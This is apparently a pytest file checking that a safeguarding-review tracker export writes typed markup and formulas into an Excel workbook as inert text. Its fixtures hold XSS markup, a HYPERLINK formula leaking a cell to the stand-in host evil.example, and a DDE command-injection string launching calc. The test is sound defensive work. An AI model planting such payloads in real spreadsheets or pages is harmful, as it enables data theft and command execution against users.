"""Text stays text in files: markup and formulas typed into a field come out exactly as typed, and inert."""
from __future__ import annotations

from datetime import date

from openpyxl import load_workbook

from monitoring.tracker_export import COLUMNS, write_tracker

SCRIPT = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the evidence")'


def tracker_row(**overrides) -> dict:
    row = {column: "" for column, _, _ in COLUMNS}
    row.update(board="North Shire", review="Child C (2014)", review_code="child-c-2014", review_type="scr",
               recommendation_no=1, recommendation=SCRIPT, priority="no", agency="Police", action=FORMULA,
               lead="+cmd|' /C calc'!A0", success_measure="@SUM(1+1)", target_date=date(2024, 6, 30),
               status="In progress", status_date=date(2024, 2, 1), agreed_date=date(2024, 1, 10), notes=SCRIPT,
               evidence="-2+3", themes="neglect", rag="Amber", rag_word="On track")
    row.update(overrides)
    return row


def test_the_tracker_workbook_keeps_formulas_and_markup_as_plain_text(tmp_path):
    out = write_tracker([tracker_row()], tmp_path / "tracker.xlsx", as_at=date(2024, 3, 31))
    sheet = load_workbook(out).worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = {h: c for h, c in zip(header, sheet[2])}

    assert cells["Action"].value == FORMULA and cells["Action"].data_type == "s"
    assert cells["Recommendation"].value == SCRIPT and cells["Notes"].value == SCRIPT
    assert cells["Lead"].value == "+cmd|' /C calc'!A0" and cells["Lead"].data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
